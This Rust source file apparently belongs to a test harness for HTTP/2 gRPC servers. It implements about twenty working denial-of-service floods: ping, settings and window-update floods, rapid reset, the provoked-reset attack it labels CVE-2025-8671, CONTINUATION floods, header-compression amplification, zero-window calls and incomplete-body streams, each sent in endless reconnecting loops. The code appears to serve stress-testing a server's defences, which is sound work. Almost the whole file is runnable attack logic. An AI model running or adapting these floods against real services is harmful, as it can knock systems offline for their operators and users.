//! Floods: what each sends on a connection, wave after wave, for as long as somebody wants it to.

use std::convert::Infallible;
use std::net::SocketAddr;

use tokio::io::AsyncWriteExt;

use super::Attacker;
use super::frames::{
    A_REMEMBERED_FIELD, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM,
    SETTINGS, UNKNOWN, WINDOW_UPDATE, call, field_to_remember, frame,
};

/// Frames of a wave: it fits into what a server reads in a turn or two.
const WAVE: u32 = 500;
/// The last of the 1,000 streams that a client may have open.
const MAX_STREAM: u32 = 1_999;
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// Headers that fit into a list of 16 KiB, each counted as its bytes and 32.
const MANY_FIELDS: usize = 480;

/// A flood.
#[derive(Clone, Copy)]
pub struct Flood {
    pub name: &'static str,
    /// The first wave of a connection, and each further one; an empty one is the last. It is told what to call and the first
    /// stream that may be opened, and says which is the next.
    wave: fn(&mut Vec<u8>, &Target, u32) -> u32,
    /// Whether what the server says is read. A client that does not can hold up only itself.
    pub listens: bool,
    /// Attackers at once. Of those that hold calls as long as they may, one has a thousand: three have all there may be, and
    /// then others are refused, which is what the load limit is for.
    pub attackers: usize,
}

/// What a flood calls: a unary rpc, and a message that it answers with one.
#[derive(Clone, Debug)]
pub struct Target {
    pub path: String,
    pub message: Vec<u8>,
}

/// Every one of them.
pub const FLOODS: &[Flood] = &[
    Flood { name: "pings", wave: pings, listens: true, attackers: 4 },
    Flood { name: "pings, answers not read", wave: pings, listens: false, attackers: 4 },
    Flood { name: "settings", wave: settings, listens: true, attackers: 4 },
    Flood { name: "settings, answers not read", wave: settings, listens: false, attackers: 4 },
    Flood { name: "priorities", wave: priorities, listens: true, attackers: 4 },
    Flood { name: "window updates", wave: window_updates, listens: true, attackers: 4 },
    Flood { name: "unknown frames", wave: unknown_frames, listens: true, attackers: 4 },
    Flood { name: "rapid reset", wave: resets, listens: true, attackers: 4 },
    Flood { name: "rapid reset, many headers", wave: heavy_resets, listens: true, attackers: 4 },
    Flood { name: "rapid reset, answers not read", wave: resets, listens: false, attackers: 4 },
    Flood { name: "made you reset", wave: provoked_resets, listens: true, attackers: 2 },
    Flood { name: "calls with many headers", wave: heavy_calls, listens: true, attackers: 4 },
    Flood { name: "continuations", wave: continuations, listens: true, attackers: 4 },
    Flood { name: "empty continuations", wave: empty_continuations, listens: true, attackers: 4 },
    Flood { name: "empty data", wave: empty_data, listens: true, attackers: 4 },
    Flood { name: "data of one byte", wave: tiny_data, listens: true, attackers: 4 },
    Flood { name: "calls whose answers are not read", wave: unread, listens: true, attackers: 2 },
    Flood { name: "bodies that stop", wave: bodies_that_stop, listens: true, attackers: 1 },
];

/// For services whose messages are shorter.
pub const SHORT_BODIES_THAT_STOP: Flood =
    Flood { name: "short bodies that stop", wave: short_bodies_that_stop, listens: true, attackers: 1 };

impl Flood {
    /// Floods over one connection at a time, as fast as the server lets it; where that is closed, over the next.
    pub async fn rage(self, address: SocketAddr, target: Target) -> Infallible {
        loop {
            if let Ok(attacker) = Attacker::connect(address).await {
                let _closed = self.over(attacker, &target).await;
            }
            // Where nothing has to be waited for, others on this runtime would never have their turn.
            tokio::task::yield_now().await;
        }
    }

    /// Floods over a connection until it is closed.
    async fn over(self, attacker: Attacker, target: &Target) -> std::io::Result<()> {
        let mut next = 1;
        let mut wave = Vec::new();
        let mut attacker = if self.listens {
            let (mut writing, listening) = attacker.listening_to_nothing();
            loop {
                wave.clear();
                next = (self.wave)(&mut wave, target, next);
                if wave.is_empty() {
                    // It holds what it has, until the server has had enough.
                    let _ = listening.await;
                    return Ok(());
                }
                if writing.write_all(&wave).await.is_err() || listening.is_finished() {
                    listening.abort();
                    return Ok(());
                }
                tokio::task::yield_now().await;
            }
        } else {
            attacker
        };
        loop {
            wave.clear();
            next = (self.wave)(&mut wave, target, next);
            attacker.send(&wave).await?;
        }
    }
}

fn pings(wave: &mut Vec<u8>, _: &Target, next: u32) -> u32 {
    (0..WAVE).for_each(|_| frame(wave, PING, 0, 0, b"in vain!"));
    next
}

fn settings(wave: &mut Vec<u8>, _: &Target, next: u32) -> u32 {
    // INITIAL_WINDOW_SIZE, which changes each open stream's.
    (0..WAVE).for_each(|size| frame(wave, SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, (size % 2) as u8]));
    next
}

fn priorities(wave: &mut Vec<u8>, _: &Target, next: u32) -> u32 {
    (0..WAVE).for_each(|number| frame(wave, PRIORITY, 0, 2 * number + 1, &[0, 0, 0, 0, 1]));
    next
}

fn window_updates(wave: &mut Vec<u8>, _: &Target, next: u32) -> u32 {
    (0..WAVE).for_each(|_| frame(wave, WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]));
    next
}

fn unknown_frames(wave: &mut Vec<u8>, _: &Target, next: u32) -> u32 {
    (0..WAVE).for_each(|_| frame(wave, UNKNOWN, 0, 0, &[]));
    next
}

fn resets(wave: &mut Vec<u8>, to: &Target, next: u32) -> u32 {
    let call = call(&to.path);
    streams(next, WAVE, |stream| {
        frame(wave, HEADERS, END_HEADERS, stream, &call);
        frame(wave, RST_STREAM, 0, stream, &CANCEL);
    })
}

/// CVE-2025-8671: what ends a stream is sent by the server, since the client does what it may not on one that is open.
fn provoked_resets(wave: &mut Vec<u8>, to: &Target, next: u32) -> u32 {
    let call = call(&to.path);
    streams(next, WAVE, |stream| provoked_reset(wave, &call, stream))
}

/// A call that the server has to reset, since its window overflows.
pub fn provoked_reset(wave: &mut Vec<u8>, call: &[u8], stream: u32) {
    const MAX_INCREMENT: [u8; 4] = [0x7f, 0xff, 0xff, 0xff];
    frame(wave, HEADERS, END_HEADERS, stream, call);
    frame(wave, WINDOW_UPDATE, 0, stream, &MAX_INCREMENT);
}

fn heavy_resets(wave: &mut Vec<u8>, to: &Target, next: u32) -> u32 {
    let call = heavy_call(&to.path, next == 1);
    streams(next, WAVE, |stream| {
        frame(wave, HEADERS, END_HEADERS, stream, &call);
        frame(wave, RST_STREAM, 0, stream, &CANCEL);
    })
}

fn heavy_calls(wave: &mut Vec<u8>, to: &Target, next: u32) -> u32 {
    if next > MAX_STREAM {
        return next;
    }
    let call = heavy_call(&to.path, next == 1);
    streams(next, WAVE, |stream| frame(wave, HEADERS, END_HEADERS, stream, &call))
}

/// A call whose headers are two bytes each on the wire and a hundred when they are read.
fn heavy_call(path: &str, is_first: bool) -> Vec<u8> {
    let mut block = call(path);
    // Asked for again with each block of the first wave: what is remembered last is found first.
    if is_first {
        field_to_remember(&mut block, b"a", b"");
    }
    block.extend([A_REMEMBERED_FIELD; MANY_FIELDS]);
    block
}

fn continuations(wave: &mut Vec<u8>, to: &Target, next: u32) -> u32 {
    frame(wave, HEADERS, 0, next, &call(&to.path));
    let mut part = Vec::new();
    super::frames::field(&mut part, b"x-more", &[b'x'; 1_000]);
    (0..WAVE).for_each(|_| frame(wave, CONTINUATION, 0, next, &part));
    next + 2
}

fn empty_continuations(wave: &mut Vec<u8>, to: &Target, next: u32) -> u32 {
    frame(wave, HEADERS, 0, next, &call(&to.path));
    (0..WAVE).for_each(|_| frame(wave, CONTINUATION, 0, next, &[]));
    next + 2
}

fn empty_data(wave: &mut Vec<u8>, to: &Target, next: u32) -> u32 {
    frame(wave, HEADERS, END_HEADERS, next, &call(&to.path));
    (0..WAVE).for_each(|_| frame(wave, DATA, 0, next, &[]));
    next + 2
}

fn tiny_data(wave: &mut Vec<u8>, to: &Target, next: u32) -> u32 {
    frame(wave, HEADERS, END_HEADERS, next, &call(&to.path));
    frame(wave, DATA, 0, next, &[0, 0, 0, 3, 0xe8]);
    (0..WAVE).for_each(|_| frame(wave, DATA, 0, next, b"\n"));
    next + 2
}

/// Each a message of which all but the end comes, as many as there may be streams.
fn bodies_that_stop(wave: &mut Vec<u8>, to: &Target, next: u32) -> u32 {
    incomplete(wave, to, next, 15_000)
}

/// The same, so short that a question about health might be it.
fn short_bodies_that_stop(wave: &mut Vec<u8>, to: &Target, next: u32) -> u32 {
    incomplete(wave, to, next, 1_000)
}

fn incomplete(wave: &mut Vec<u8>, to: &Target, next: u32, bytes: u32) -> u32 {
    if next > MAX_STREAM {
        return next;
    }
    let call = call(&to.path);
    let mut most = vec![0];
    most.extend((bytes + 1).to_be_bytes());
    most.resize(bytes as usize + 5, b'\n');
    streams(next, 20, |stream| {
        frame(wave, HEADERS, END_HEADERS, stream, &call);
        frame(wave, DATA, 0, stream, &most);
    })
}

/// Whole calls, as many as there may be streams, of a client that gives their answers no window.
fn unread(wave: &mut Vec<u8>, to: &Target, next: u32) -> u32 {
    if next > MAX_STREAM {
        return next;
    }
    if next == 1 {
        no_window(wave);
    }
    let call = call(&to.path);
    streams(next, WAVE, |stream| whole_call(wave, &call, &to.message, stream))
}

/// INITIAL_WINDOW_SIZE: from now on answers have no room.
pub fn no_window(wave: &mut Vec<u8>) {
    frame(wave, SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
}

/// A call with its whole message.
pub fn whole_call(wave: &mut Vec<u8>, call: &[u8], message: &[u8], stream: u32) {
    let mut framed = vec![0];
    framed.extend(u32::try_from(message.len()).expect("a small message").to_be_bytes());
    framed.extend_from_slice(message);
    frame(wave, HEADERS, END_HEADERS, stream, call);
    frame(wave, DATA, END_STREAM, stream, &framed);
}

/// Opens so many streams, and says which is the next.
fn streams(next: u32, count: u32, mut open: impl FnMut(u32)) -> u32 {
    (0..count).for_each(|number| open(next + 2 * number));
    next + 2 * count
}
